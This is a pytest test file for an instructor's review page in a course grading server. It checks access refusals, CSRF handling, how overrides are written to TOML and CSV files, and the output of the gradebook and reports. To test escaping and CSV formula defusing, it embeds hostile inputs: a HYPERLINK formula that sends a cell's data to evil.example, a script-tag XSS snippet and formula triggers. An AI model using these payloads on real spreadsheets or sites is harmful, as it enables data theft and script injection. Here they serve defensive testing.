"""Reviews saved from the instructor's page, over HTTP: a real ``gradekit serve run`` on a loopback port.

The module's course has an ``overrides.toml`` written by hand (comments, bob's entry with a note whose lines look
like a table and a comment, an entry naming nobody on the roster); alice and bob hand in the reference. The
instructor reviews alice from the page: every refusal route leaves the file as it was; a bad entry is refused with
the batch's message; a review saved changes the file's alice table alone and shows at once in the gradebook, its
files (equal to a batch's over the same file), the class summary and alice's report, hostile text escaped on the
pages and formula-safe in the CSV files; an emptied form gives the file back byte for byte; a restart shows the
same; then the same with ``overrides.csv``.
"""

import csv
import io
import json
import re
import urllib.parse
import zipfile

import pytest
from markupsafe import escape

from grader.batch import overrides
from grader.batch.gradebook import REVIEW
from tests.corpus.test_csv_safety import _formula_cells
from tests.server_helpers import ROOT, Server, call, form_csrf, login, make_course, post_form, upload


def _zipped(*paths):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        for path in paths:
            zf.write(path, path.name)
    return buf.getvalue()


MASKS = _zipped(ROOT / "solution" / "masks.py")
"""The reference's ``masks.py``, zipped: handed in to the server and given to the batch alike."""
ORIGINAL = """# The term's reviews: by hand, and from the gradebook page.

# bob: looked at again by hand
[students.bob]   # bob's own table
note = '''the figure, looked at again;
[students.alice]
# not a comment: a line of the note'''

[students.zed]
note = "not on the roster"
"""
NOTE = 'x; =HYPERLINK("http://evil.example/?"&A1,"marks") <script>document.title="ran"</script>'
WHY = 'a|@SUM(1); <b id="markup">bold</b>\n=2+2'
REVIEWED = {"points": "-2", "note": NOTE, "by": "Prof. Li", "why": WHY}
ALICE = (
    "\n[students.alice]\n"
    "points = -2\n"
    'note = "x; =HYPERLINK(\\"http://evil.example/?\\"&A1,\\"marks\\") <script>document.title=\\"ran\\"</script>"\n'
    'by = "Prof. Li"\n'
    'why = "a|@SUM(1); <b id=\\"markup\\">bold</b>\\n=2+2"\n'
)
"""What saving ``REVIEWED`` adds to ``ORIGINAL``: a blank line, then alice's table."""
NUMBERS = ("total", "max", "submission", "late_submissions", "late_submission", "late_total") + (
    "before_review",
    "adjustment",
    "late",
)


@pytest.fixture(scope="module")
def course(tmp_path_factory):
    c = make_course(tmp_path_factory.mktemp("course"))
    (c.folder / "overrides.toml").write_text(ORIGINAL, encoding="utf-8")
    return c


@pytest.fixture(scope="module")
def server(course):
    with Server(course) as s:
        yield s


@pytest.fixture(scope="module")
def graded(course, server):
    """alice's and bob's hand-ins of the reference, graded: their ids."""
    ids = {}
    for student in ("alice", "bob"):
        status, answer = upload(server, course.tokens[student], [("masks.zip", MASKS)])
        assert status == 201, answer
        assert server.wait_done(answer["id"], course.tokens[student])["status"] == "done"
        ids[student] = answer["id"]
    return ids


@pytest.fixture(scope="module")
def session(course, server):
    """The instructor's page session: ``(cookie, csrf)``."""
    status, _, cookie = login(server, course.instructor)
    assert status == 303 and cookie
    return cookie, form_csrf(call("GET", server.url + "/instructor/", headers={"Cookie": cookie})[2])


def _review(server, session, student, fields, lang="en"):
    """Post the review form of ``student`` with ``fields`` (the others empty): ``(status, headers, body)``."""
    cookie, csrf = session
    form = {"csrf": csrf, "student": student, **dict.fromkeys(overrides.FIELDS, ""), **fields}
    return post_form(server, f"/instructor/review?lang={lang}", cookie, form)


def _gradebook(server, course):
    rows = json.loads(call("GET", server.url + "/api/gradebook", course.instructor)[2])["students"]
    return {r["student"]: r for r in rows}


def _csv(server, course, name):
    status, _, body = call("GET", f"{server.url}/instructor/{name}", course.instructor)
    assert status == 200 and body.startswith("\ufeff".encode())
    return body.decode("utf-8")[1:]


def _rows(text, key):
    return {r[key]: r for r in csv.DictReader(io.StringIO(text, newline=""))}


def test_the_review_page_is_the_instructors(course, server, graded, session):
    """The gradebook links each student's review page; it shows the form filled with the student's entry (bob's
    note, as the file holds it) and the refusals of the instructor's pages."""
    cookie, _ = session
    page = call("GET", server.url + "/instructor/", headers={"Cookie": cookie})[2].decode()
    assert 'href="review?student=alice&amp;lang=en"' in page
    status, headers, body = call("GET", server.url + "/instructor/review?student=bob", headers={"Cookie": cookie})
    page = body.decode()
    assert status == 200 and "script-src" not in headers["Content-Security-Policy"]
    assert "[students.alice]\n# not a comment: a line of the note</textarea>" in page
    assert 'action="/instructor/review?lang=en"' in page and str(course.folder / "overrides.toml") in page
    status, _, body = call("GET", server.url + "/instructor/review?student=bob&lang=zh", headers={"Cookie": cookie})
    assert status == 200 and "保存复核" in body.decode()
    _, _, student = login(server, course.tokens["alice"])
    url = server.url + "/instructor/review?student=alice"
    assert call("GET", url, headers={"Cookie": student})[0] == 403
    assert call("GET", url, course.tokens["alice"])[0] == 403
    status, _, body = call("GET", url)
    assert status == 401 and b'name="token"' in body
    assert call("GET", server.url + "/instructor/review?student=nobody", headers={"Cookie": cookie})[0] == 404


def test_every_refusal_leaves_the_file_and_the_gradebook_as_they_were(course, server, graded, session):
    """The form refused as the regrade form is: without a session (401, the login form), to a student's session or
    token, to the instructor's token without the session, to the session without the CSRF token or with another's
    (403); none writes the file or changes a score."""
    cookie, csrf = session
    file = course.folder / "overrides.toml"
    before = file.read_bytes(), _gradebook(server, course)
    _, _, student = login(server, course.tokens["alice"])
    student_csrf = form_csrf(call("GET", server.url + "/", headers={"Cookie": student})[2])
    form = {"student": "alice", **REVIEWED}
    body = urllib.parse.urlencode({"csrf": csrf, **form}).encode()
    plain = "application/x-www-form-urlencoded"
    url = server.url + "/instructor/review"
    refused = [
        post_form(server, "/instructor/review", None, {"csrf": csrf, **form}),  # no session
        post_form(server, "/instructor/review", student, {"csrf": student_csrf, **form}),  # a student's session
        call("POST", url, course.tokens["alice"], body=body, content_type=plain),  # a student's token
        call("POST", url, course.instructor, body=body, content_type=plain),  # the instructor's token alone
        post_form(server, "/instructor/review", cookie, form),  # the instructor's session, no CSRF token
        post_form(server, "/instructor/review", cookie, {"csrf": "0" * 32, **form}),  # another
        post_form(server, "/instructor/review", cookie, {"csrf": student_csrf, **form}),  # a student's
    ]
    assert [status for status, _, _ in refused] == [401, 403, 403, 403, 403, 403, 403]
    assert b'name="token"' in refused[0][2]
    assert "reload the page and try again" in refused[-1][2].decode()
    assert (file.read_bytes(), _gradebook(server, course)) == before


def test_a_bad_entry_is_refused_with_the_batchs_message(course, server, graded, session):
    """A score change without ``by``, and a number that is none: the page again (400) with the batch's own message
    (what was expected, what came) and the form as it was sent, in English and Chinese; nothing written."""
    file = course.folder / "overrides.toml"
    before = file.read_bytes()
    for fields, lang in (({"points": "-2", "why": "late work"}, "en"), ({"late_penalty": "two"}, "zh")):
        try:
            overrides.entry("alice", fields, (str(file), "students.alice"), lang=lang)
        except overrides.OverrideError as exc:
            expected = str(exc)
        status, _, body = _review(server, session, "alice", fields, lang)
        page = body.decode()
        assert status == 400, page
        assert str(escape(expected)) in page and ("Nothing was saved" in page) == (lang == "en")
        value = fields.get("points") or fields["late_penalty"]
        assert f'value="{value}"' in page  # the form as it was sent
    assert (
        "must say who reviewed it and why; missing &#39;by&#39;"
        in _review(server, session, "alice", {"points": "1"})[2].decode()
    )
    assert file.read_bytes() == before
    assert _gradebook(server, course)["alice"]["reviewed"] is False


@pytest.fixture(scope="module")
def reviewed(course, server, graded, session):
    """alice reviewed from the page (``REVIEWED``), the class summary read once before: the answer."""
    call("GET", server.url + "/instructor/index.html", course.instructor)  # built, and kept until something changes
    return _review(server, session, "alice", REVIEWED)


@pytest.fixture(scope="module")
def batch_out(course, reviewed, tmp_path_factory):
    """The batch's output folder for alice's hand-in, graded with the course configuration and the overrides file
    the page wrote, as ``gradekit batch --config`` grades it."""
    from grader.batch import runner

    base = tmp_path_factory.mktemp("batch")
    (base / "class").mkdir()
    (base / "class" / "alice.zip").write_bytes(MASKS)
    runner.batch(submissions=base / "class", out=base / "out", jobs=1, profile="quick", config=course.config)
    return base / "out"


def test_a_review_saved_writes_alices_table_alone_and_shows_at_once(course, server, graded, reviewed, batch_out):
    """The file is the hand-written one with alice's table added, every other byte as it was; the gradebook, its
    CSV (the review columns equal to the batch's over the same file), lms.csv, the class summary and alice's report
    show the review with no restart."""
    status, headers, _ = reviewed
    assert status == 303 and headers["Location"] == "/instructor/?lang=en&reviewed=alice"
    assert (course.folder / "overrides.toml").read_text(encoding="utf-8") == ORIGINAL + ALICE
    rows = _gradebook(server, course)
    assert (rows["alice"]["score"], rows["alice"]["reviewed"]) == (8, True)
    assert (rows["bob"]["score"], rows["bob"]["reviewed"]) == (10, True)  # bob's note, as before
    cookie = login(server, course.instructor)[2]
    page = call("GET", server.url + headers["Location"], headers={"Cookie": cookie})[2].decode()
    assert "The review of alice is saved in" in page
    assert "8 / 10" in re.search(r'<tr data-student="alice">.*?</tr>', page, re.S).group(0)

    served = _csv(server, course, "gradebook.csv")
    batch = (batch_out / "gradebook.csv").read_text(encoding="utf-8").removeprefix("\ufeff")
    columns = ("total", "max", "status", "reason") + REVIEW
    alice, batch_alice = _rows(served, "student_id")["alice"], _rows(batch, "student_id")["alice"]
    assert {c: alice[c] for c in columns} == {c: batch_alice[c] for c in columns}
    assert [alice[c] for c in ("total", "before_review", "adjustment", "reviewed_by")] == ["8", "10", "-2", "Prof. Li"]
    assert _formula_cells(served, numbers=NUMBERS) == []  # the hostile note and why, under every separator
    lms = _csv(server, course, "lms.csv")
    batch_lms = (batch_out / "lms.csv").read_text(encoding="utf-8").removeprefix("\ufeff")
    line = next(line for line in lms.splitlines() if line.startswith("alice,"))
    assert line == next(line for line in batch_lms.splitlines() if line.startswith("alice,")) and line.endswith(",8")
    assert _formula_cells(lms, numbers=(lms.splitlines()[0].split(",")[-1],)) == []

    summary = call("GET", server.url + "/instructor/index.html", course.instructor)[2].decode()
    assert re.search(r"Alice Li \(alice\)</a></td>\s*<td class=\"num\">8 / 10</td>", summary)
    report = call("GET", f"{server.url}/submissions/{graded['alice']}/report", course.tokens["alice"])[2].decode()
    assert "Instructor&#39;s review" in report and "Prof. Li" in report
    assert "<script>document.title" not in report and "&lt;script&gt;document.title" in report
    assert '<b id="markup">' not in report and "&lt;b id=&#34;markup&#34;&gt;" in report


def test_hostile_text_shows_escaped_on_the_review_page(course, server, reviewed):
    cookie = login(server, course.instructor)[2]
    status, _, body = call("GET", server.url + "/instructor/review?student=alice", headers={"Cookie": cookie})
    page = body.decode()
    assert status == 200 and "8 / 10 (before the review: 10)" in page
    assert "<script>document.title" not in page and '<b id="markup">' not in page
    assert "&lt;script&gt;document.title=&#34;ran&#34;&lt;/script&gt;</textarea>" in page
    assert "&lt;b id=&#34;markup&#34;&gt;bold&lt;/b&gt;\n=2+2</textarea>" in page


def test_an_emptied_form_takes_the_review_out(course, server, graded, reviewed, session):
    """Every field emptied: alice's table goes, and the file is the hand-written one again, byte for byte; the
    gradebook, its CSV and the report show the grading."""
    status, headers, _ = _review(server, session, "alice", {})
    assert status == 303
    assert (course.folder / "overrides.toml").read_text(encoding="utf-8") == ORIGINAL
    assert _gradebook(server, course)["alice"]["score"] == 10
    alice = _rows(_csv(server, course, "gradebook.csv"), "student_id")["alice"]
    assert alice["total"] == "10" and all(alice[c] == "" for c in REVIEW)
    report = call("GET", f"{server.url}/submissions/{graded['alice']}/report", course.tokens["alice"])[2].decode()
    assert "Instructor&#39;s review" not in report
    cookie = login(server, course.instructor)[2]
    page = call("GET", server.url + headers["Location"], headers={"Cookie": cookie})[2].decode()
    assert "alice has no review in" in page


def test_a_restart_shows_the_same(course, server, graded, session):
    """alice reviewed again, in Chinese: the server started again reads the file the page wrote and serves the same
    gradebook, files and report."""
    fields = {"points": "1.5", "copy": "cleared", "late_percent": "10", "by": "李老师", "why": "复查"}
    status, headers, _ = _review(server, session, "alice", fields, "zh")
    assert status == 303 and headers["Location"] == "/instructor/?lang=zh&reviewed=alice"
    assert (course.folder / "overrides.toml").read_text(encoding="utf-8") == ORIGINAL + (
        '\n[students.alice]\npoints = 1.5\ncopy = "cleared"\nlate_percent = 10\nby = "李老师"\nwhy = "复查"\n'
    )
    seen = {
        "gradebook": _gradebook(server, course),
        "csv": _csv(server, course, "gradebook.csv"),
        "lms": _csv(server, course, "lms.csv"),
        "report": call("GET", f"{server.url}/submissions/{graded['alice']}/report", course.instructor)[2],
    }
    assert seen["gradebook"]["alice"]["score"] == 10.5  # 10, less 10% of the maximum, plus 1.5
    server.stop()
    with Server(course) as again:
        assert {
            "gradebook": _gradebook(again, course),
            "csv": _csv(again, course, "gradebook.csv"),
            "lms": _csv(again, course, "lms.csv"),
            "report": call("GET", f"{again.url}/submissions/{graded['alice']}/report", course.instructor)[2],
        } == seen


ORIGINAL_CSV = '\ufeffstudent,points,note,by,why\r\nbob,,"looked at again,\r\nby hand",,\r\nzed,,nobody,,\r\n'
"""The overrides file as a spreadsheet writes it: the BOM, CRLF, a quoted cell over two lines; no ``copy``."""


def test_the_csv_file(course, graded):
    """The same with ``overrides.csv``: alice's row added, rewritten and taken out, the header and the other rows
    as they were; a review the header has no column for refused, the file unchanged."""
    (course.folder / "overrides.toml").unlink()
    file = course.folder / "overrides.csv"
    file.write_bytes(ORIGINAL_CSV.encode("utf-8"))
    with Server(course) as server:
        status, _, cookie = login(server, course.instructor)
        session = cookie, form_csrf(call("GET", server.url + "/instructor/", headers={"Cookie": cookie})[2])
        assert _review(server, session, "alice", REVIEWED)[0] == 303
        # the file is a CSV a spreadsheet opens too: its text cells are written defused, as the gradebook's are
        row = (
            'alice,-2,"x; \'=HYPERLINK(""http://evil.example/?""&A1,""marks"") <script>document.title=""ran""</script>"'
        )
        row += ',Prof. Li,"a|\'@SUM(1); <b id=""markup"">bold</b>\n\'=2+2"\r\n'
        written = file.read_bytes().decode("utf-8")
        assert written == ORIGINAL_CSV + row
        assert _formula_cells(written.removeprefix("\ufeff"), numbers=("points",)) == []
        served = _csv(server, course, "gradebook.csv")
        alice = _rows(served, "student_id")["alice"]
        assert [alice[c] for c in ("total", "before_review", "adjustment", "reviewed_by")] == [
            "8",
            "10",
            "-2",
            "Prof. Li",
        ]
        assert _formula_cells(served, numbers=NUMBERS) == []
        assert _review(server, session, "alice", {"points": "3", "by": "TA", "why": "regraded"})[0] == 303
        assert file.read_bytes().decode("utf-8") == ORIGINAL_CSV + "alice,3,,TA,regraded\r\n"
        assert _gradebook(server, course)["alice"]["score"] == 13
        status, _, body = _review(server, session, "alice", {"copy": "cleared", "by": "TA", "why": "no copy"})
        assert status == 409 and "the header has no column copy" in body.decode()
        assert file.read_bytes().decode("utf-8") == ORIGINAL_CSV + "alice,3,,TA,regraded\r\n"
        assert _review(server, session, "alice", {})[0] == 303
        assert file.read_bytes().decode("utf-8") == ORIGINAL_CSV
        assert _gradebook(server, course)["alice"]["score"] == 10
